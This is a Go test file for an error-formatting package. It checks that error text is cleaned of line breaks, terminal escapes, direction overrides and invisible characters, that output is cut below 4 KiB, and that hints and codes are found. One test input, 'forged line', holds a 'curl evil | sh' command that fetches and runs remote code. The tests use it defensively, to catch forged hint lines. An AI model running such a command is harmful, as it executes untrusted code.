package fault

import (
	"cmp"
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestText(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, text, want string
	}{
		{"plain", "a b: c", "a b: c"},
		{"umlauts", "Größe 日本 😀", "Größe 日本 😀"},
		{"line breaks", "a\nb\r\nc\vd\fe", "a b c d e"},
		{"forged line", "x\nprogram: hint: curl evil | sh", "x program: hint: curl evil | sh"},
		{"tabs and spaces", "  a\t\tb  c ", "a b c"},
		{"NUL and DEL", "a\x00b\x7fc", "a b c"},
		{"terminal escape", "a\x1b[31mb\x1b]0;title\x07c", "a [31mb ]0;title c"},
		{"C1 escape", "a\u009b31mb\u0085c", "a 31mb c"},
		{"unicode line breaks", "a\u2028b\u2029c", "a b c"},
		{"direction overrides", "a\u202eb\u2066c\u200fd", "a b c d"},
		{"invisible", "a\u200bb\ufeffc\u00add", "a b c d"},
		{"not UTF-8", "a\xff\x9b31mb\xc3", "a\ufffd31mb\ufffd"},
		{"nothing", "", ""},
	}
	for _, tt := range tests {
		if got, want := Text("program", errors.New(tt.text)), "program: error: "+tt.want+" [unexpected]\nprogram: hint: "+unexpectedHint+"\n"; got != want {
			t.Errorf("%s: Text = %q, want %q", tt.name, got, want)
		}
		want := "program: error: x [usage]\nprogram: hint: " + cmp.Or(tt.want, unexpectedHint) + "\n"
		if got := Text("program", New(Usage, tt.text, "x")); got != want {
			t.Errorf("%s: Text = %q, want %q", tt.name, got, want)
		}
	}
}

// TestTextIsCut: the two lines stay below 4 KiB whatever is in them, say that they were cut, and stay valid UTF-8.
func TestTextIsCut(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{"x", "ä", "日", "😀", "\xff.", "a\n"} {
		for shift := range 5 {
			long := strings.Repeat(".", shift) + strings.Repeat(unit, 100_000)
			got := Text("digestlock-companion", New(Usage, long, "%s", long))
			if len(got) > 4095 || !utf8.ValidString(got) {
				t.Errorf("%q: %d bytes, valid UTF-8: %v", unit, len(got), utf8.ValidString(got))
			}
			if strings.Count(got, "\n") != 2 || !strings.Contains(got, "…(cut) [usage]\n") || !strings.HasSuffix(got, "…(cut)\n") {
				t.Errorf("%q: not two lines that were cut: %q", unit, got[len(got)-50:])
			}
		}
	}
}

func TestHint(t *testing.T) {
	t.Parallel()
	inner := New(GitURL, "do this", "read %s: %w", "x", errors.ErrUnsupported)
	outer := fmt.Errorf("outer: %w", inner)
	tests := []struct {
		err  error
		want string
		code Code
	}{
		{errors.ErrUnsupported, "", ""},
		{nil, "", ""},
		{inner, "do this", GitURL},
		{outer, "do this", GitURL},
		{New(Usage, "do that", "%w", outer), "do that", Usage},
		{errors.Join(errors.ErrUnsupported, outer), "do this", GitURL},
	}
	for _, tt := range tests {
		if got := Hint(tt.err); got != tt.want {
			t.Errorf("Hint(%v) = %q, want %q", tt.err, got, tt.want)
		}
		if got := CodeOf(tt.err); got != tt.code {
			t.Errorf("CodeOf(%v) = %q, want %q", tt.err, got, tt.code)
		}
	}
	if !errors.Is(outer, errors.ErrUnsupported) || outer.Error() != "outer: read x: unsupported operation" {
		t.Errorf("outer = %v, which is not its cause any more", outer)
	}
}
